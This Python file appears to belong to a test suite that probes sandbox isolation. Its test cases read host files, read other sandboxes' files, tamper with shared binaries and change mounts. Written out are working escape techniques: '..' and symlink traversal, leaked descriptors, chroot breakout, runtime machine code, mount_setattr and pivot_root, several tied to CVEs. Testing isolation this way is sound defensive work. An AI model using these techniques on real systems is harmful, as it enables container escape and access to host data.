"""Files of the host, of other sandboxes, of the snapshot below; mounts, devices and set-id
programs."""
import os
import pathlib

import baits
from frame import Bait, inside

F, M, D = "files", "mounts", "devices"


# ---- ways to a file of the host ----


def plainly(path):
    return read(path)


def upwards(path):
    return read("/.." * 20 + path)


def by_a_link(path):
    place = f"/tmp/cay-escape-link-{os.urandom(6).hex()}"  # the control makes it on the host
    os.symlink("../" * 20 + path.lstrip("/"), place)
    try:
        return read(place)
    finally:
        os.unlink(place)


def by_descriptors(path):
    for fd in range(3, 1024):
        try:
            return read(f"/proc/self/fd/{fd}/../../../../../..{path}")
        except OSError:
            pass


def by_descriptor_at(path):
    for fd in range(3, 1024):
        for name in (path.lstrip("/"), "../" * 12 + path.lstrip("/")):
            try:
                return os.read(os.open(name, os.O_RDONLY, dir_fd=fd), 200).decode()
            except OSError:
                pass


def by_working_directory(path):
    return read("../" * 20 + path.lstrip("/"))


def by_chroot(path):
    place = f"/tmp/chroot-{os.urandom(6).hex()}"
    os.mkdir(place)
    above = os.open("/", os.O_RDONLY)
    os.chroot(place)
    os.fchdir(above)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(path)


def by_chroot_and_parents(path):
    place = f"/tmp/chroot-{os.urandom(6).hex()}"
    os.mkdir(place)
    os.chdir("/")
    os.chroot(place)
    return read("../" * 64 + path.lstrip("/"))


def by_openat2(path):
    how = struct.pack("QQQ", os.O_RDONLY, 0, 0)
    return os.read(
        call(
            437, os.open("/", os.O_RDONLY), ("../" * 30 + path.lstrip("/")).encode(), how, len(how)
        ),
        200,
    ).decode()


def machine_code(path):
    """Reads by instructions of its own: no interpreter's rule is a wall (the language sandboxes'
    lesson)."""
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(
        bytes.fromhex("4889f84889f74889d64889ca0f05c3")
    )  # rax=a, rdi=b, rsi=c, rdx=d; syscall; ret
    at = ctypes.addressof(ctypes.c_char.from_buffer(page))
    raw = ctypes.CFUNCTYPE(
        ctypes.c_long, ctypes.c_long, ctypes.c_char_p, ctypes.c_long, ctypes.c_long
    )(at)
    fd = raw(2, path.encode(), 0, 0)
    if fd < 0:
        raise OSError(-fd, "open")
    return os.read(fd, 200).decode()


inside(
    "host-file",
    "read a world-readable file of the host by its path",
    F,
    ["mount"],
    plainly,
    baits.Secret,
)
inside("host-file-upwards", "read it through twenty '..'", F, ["mount"], upwards, baits.Secret)
inside(
    "host-file-by-link",
    "read it through a symbolic link of many '..'",
    F,
    ["mount"],
    by_a_link,
    baits.Secret,
    known=("CVE-2026-39861", "CVE-2026-25724"),
)
inside(
    "host-file-by-openat2",
    "read it with openat2 below a descriptor of /",
    F,
    ["mount"],
    by_openat2,
    baits.Secret,
)
inside(
    "host-file-by-machine-code",
    "read it with machine code written at run time",
    F,
    ["mount"],
    machine_code,
    baits.Secret,
    known=("CVE-2026-81096", "CVE-2026-41900", "CVE-2026-27952", "CVE-2026-5752", "vm2"),
    needs=lambda: "" if os.uname().machine == "x86_64" else "x86-64 code",
)
inside(
    "leaked-directory",
    "look for a descriptor of the host in /proc/self/fd",
    F,
    ["leak:/"],
    by_descriptors,
    baits.Secret,
    known=("CVE-2024-21626",),
)
inside(
    "leaked-directory-at",
    "use every descriptor as a directory",
    F,
    ["leak:/"],
    by_descriptor_at,
    baits.Secret,
    known=("CVE-2024-21626",),
)
inside(
    "working-directory",
    "go up from the working directory",
    F,
    ["mount"],
    by_working_directory,
    baits.Secret,
    known=("CVE-2024-21626",),
)
inside(
    "chroot-and-back",
    "leave by chroot below an open directory",
    F,
    ["pivot"],
    by_chroot,
    baits.Secret,
)
inside(
    "chroot-and-parents",
    "leave by chroot without chdir",
    F,
    ["pivot"],
    by_chroot_and_parents,
    baits.Secret,
)


# ---- another sandbox ----


class OfTheOther(Bait):
    """A file of the other sandbox."""

    of_host = True
    mode = "644"

    def __init__(self, host):
        super().__init__()
        self.box, self.secret = host.box("other"), baits.new_secret()

    def __enter__(self):
        self.box.sh(
            f"mkdir -p /srv/data; echo {self.secret} > /srv/data/secret; chmod {self.mode} "
            "/srv/data/secret"
        )
        self.arguments = {"path": "/srv/data/secret"}
        return self

    def won(self, told):
        return self.secret in str(told)


def take(*names):
    return lambda host: [f"take:{name}={host.box('other').model()}" for name in names]


T = "tenants"
inside(
    "other-sandbox-file",
    "read a file of another sandbox",
    T,
    take("mnt"),
    plainly,
    OfTheOther,
    by="A1 A2",
    wall="own mount namespace",
)
inside(
    "other-sandbox-private-file",
    "read a file that only root of another sandbox may read",
    T,
    take("mnt", "user"),
    plainly,
    type("Private", (OfTheOther,), {"mode": "600"}),
    by="A1 A2",
    wall="own mount and user namespaces",
)


# ---- the snapshot below, and mounts ----


class Fixed(Bait):
    """A program that the sandboxes' snapshot has from the host; the control's is a file of the
    test's own, attached over it."""

    path, place = "/usr/bin/users", pathlib.Path("/var/tmp/cay-escape-fixed")

    def __enter__(self):
        self.arguments = {"path": self.path}
        self.place.mkdir(exist_ok=True)
        self.file = self.place / "marker"
        self.file.write_text("as it was")
        self.file.chmod(0o666)
        return self

    def won(self, told):
        return (
            "changed" in self.file.read_text() or b"changed" in pathlib.Path(self.path).read_bytes()
        )

    def __exit__(self, *_):
        self.file.unlink()
        self.place.rmdir()
        return False


OVER = "host:/var/tmp/cay-escape-fixed/marker=/usr/bin/users"


def map_and_write(path):
    with open(path, "r+b") as file:
        with mmap.mmap(file.fileno(), 0) as page:
            page[0:7] = b"changed"
            page.flush()


def splice_over(path):
    out, inn = os.pipe()
    os.write(inn, b"changed")
    os.splice(out, os.open(path, os.O_WRONLY), 7)


def append(path):
    with open(path, "a") as file:
        file.write("changed")


inside(
    "host-program-append",
    "append to a program that the snapshot shares with the host",
    F,
    [OVER],
    append,
    Fixed,
    wall="overlay: writes reach a copy",
    known=("CVE-2026-24834",),
)
inside(
    "host-program-mapped",
    "write into it through a shared mapping",
    F,
    [OVER],
    map_and_write,
    Fixed,
    wall="overlay: writes reach a copy",
    known=("CVE-2026-31431",),
)
inside(
    "host-program-spliced",
    "write into it through a pipe",
    F,
    [OVER],
    splice_over,
    Fixed,
    wall="overlay: writes reach a copy",
)


def unmask(path):
    call(166, path.encode(), 2)
    return read(path)


def cmdline(path="/proc/cmdline"):
    return type(
        "Text",
        (baits.HostText,),
        {"path": path, "__enter__": lambda self: self.arguments.update(path=path) or self},
    )


def fresh_proc(path):
    os.makedirs("/tmp/proc", exist_ok=True)
    call(165, b"proc", b"/tmp/proc", b"proc", 0, b"")
    try:
        return read("/tmp" + path)
    finally:
        call(166, b"/tmp/proc", 2)


def fresh_proc_by_descriptor(path):
    handle = call(430, b"proc", 0)
    call(431, handle, 6, 0, 0, 0)
    return os.read(os.open("cmdline", os.O_RDONLY, dir_fd=call(432, handle, 0, 0)), 4096).decode()


def copy_without_covers(path):
    tree = call(
        428, -100, b"/proc", 1
    )  # OPEN_TREE_CLONE, not recursive: what lies over it stays behind
    return os.read(os.open("cmdline", os.O_RDONLY, dir_fd=tree), 4096).decode()


def bind_without_covers(path):
    os.makedirs("/tmp/bound", exist_ok=True)
    call(165, b"/proc", b"/tmp/bound", b"", 4096, 0)
    try:
        return read("/tmp/bound/cmdline")
    finally:
        call(166, b"/tmp/bound", 2)


def fresh_sys():
    if not os.path.isdir("/tmp/sys"):
        os.mkdir("/tmp/sys")
    call(165, b"sysfs", b"/tmp/sys", b"sysfs", 0, b"")
    try:
        return "\n".join(sorted(os.listdir("/tmp/sys/module")))
    finally:
        first(lambda: call(166, b"/tmp/sys", 2), lambda: None)
        os.rmdir("/tmp/sys")


class Modules(Bait):
    def won(self, told):
        own, got = set(os.listdir("/sys/module")), set(str(told or "").split())
        return len(own & got) * 2 > len(own)


def remount_proc_sys():
    call(165, b"none", b"/proc/sys", b"", 32 | 4096, b"")  # REMOUNT | BIND, not read-only
    return any(
        line.split()[4] == "/proc/sys" and line.split()[5].startswith("rw")
        for line in read("/proc/self/mountinfo").splitlines()
    )


def attribute_proc_sys():
    call(
        442, -100, b"/proc/sys", 0, struct.pack("QQQQ", 0, 1, 0, 0), 32
    )  # mount_setattr: clears read-only
    return any(
        line.split()[4] == "/proc/sys" and line.split()[5].startswith("rw")
        for line in read("/proc/self/mountinfo").splitlines()
    )


def cover_with_own(path):
    """What is covered is covered by something of the guest's: it would decide what programs of ours
    read there."""
    with open("/tmp/lie", "w") as file:
        file.write("changed")
    call(165, b"/tmp/lie", path.encode(), b"", 4096, 0)
    try:
        return "changed" in read(path)
    finally:
        call(166, path.encode(), 2)


def unmount_all(path):
    call(166, b"/proc", 2)
    return not os.path.exists("/proc/self")


def overlay_over_root():
    for name in ("u", "w", "m"):
        os.makedirs("/dev/shm/" + name, exist_ok=True)
    call(
        165,
        b"overlay",
        b"/dev/shm/m",
        b"overlay",
        0,
        b"lowerdir=/usr,upperdir=/dev/shm/u,workdir=/dev/shm/w,userxattr",
    )
    try:
        return os.path.exists("/dev/shm/m/bin")
    finally:
        call(166, b"/dev/shm/m", 2)


def fresh_terminals():
    os.makedirs("/tmp/pts", exist_ok=True)
    call(165, b"devpts", b"/tmp/pts", b"devpts", 0, b"newinstance,ptmxmode=0666,max=4000")
    try:
        return os.path.exists("/tmp/pts/ptmx")
    finally:
        call(166, b"/tmp/pts", 2)


def large_tmpfs():
    os.makedirs("/tmp/large", exist_ok=True)
    call(165, b"tmpfs", b"/tmp/large", b"tmpfs", 0, b"size=64g")
    try:
        return os.statvfs("/tmp/large").f_blocks * 4096 >= 64 << 30
    finally:
        call(166, b"/tmp/large", 2)


def pivot_away():
    os.makedirs("/tmp/new", exist_ok=True)
    call(165, b"none", b"/tmp/new", b"tmpfs", 0, b"")
    os.mkdir("/tmp/new/old")
    call(155, b"/tmp/new", b"/tmp/new/old")
    return os.path.exists("/old/usr")


FC = ("filter", "caps")
TEXT = cmdline()
inside(
    "unmask", "take off what covers /proc/cmdline", M, FC, unmask, TEXT, known=("CVE-2025-31133",)
)
inside("fresh-proc", "mount another /proc, which nothing covers", M, FC, fresh_proc, TEXT)
inside(
    "fresh-proc-by-descriptor",
    "the same by fsopen and fsmount",
    M,
    (*FC, "namespaces"),
    fresh_proc_by_descriptor,
    TEXT,
)
inside(
    "copy-without-covers",
    "copy /proc by open_tree without what covers it",
    M,
    (*FC, "namespaces"),
    copy_without_covers,
    TEXT,
)
inside(
    "bind-without-covers",
    "bind /proc elsewhere without what covers it",
    M,
    FC,
    bind_without_covers,
    TEXT,
    known=("CVE-2025-31133",),
)
inside(
    "fresh-sys", "mount another /sys", M, ("filter", "caps", "mount", "user"), fresh_sys, Modules
)
inside("remount-writable", "remount /proc/sys writable", M, FC, remount_proc_sys)
inside(
    "attribute-writable", "clear read-only on /proc/sys by mount_setattr", M, FC, attribute_proc_sys
)
inside(
    "own-cover",
    "lay a file of its own over a covered one",
    M,
    FC,
    cover_with_own,
    type(
        "Path",
        (Bait,),
        {"__enter__": lambda self: self.arguments.update(path="/proc/cmdline") or self},
    ),
    known=("CVE-2025-31133", "CVE-2025-52565"),
)
inside("own-overlay", "mount an overlay", M, FC, overlay_over_root)
inside("own-terminals", "mount terminals without a limit", M, FC, fresh_terminals)
inside("own-tmpfs", "mount a tmpfs of 64 GiB", M, FC, large_tmpfs)
inside("pivot", "pivot to a root of its own", M, FC, pivot_away)
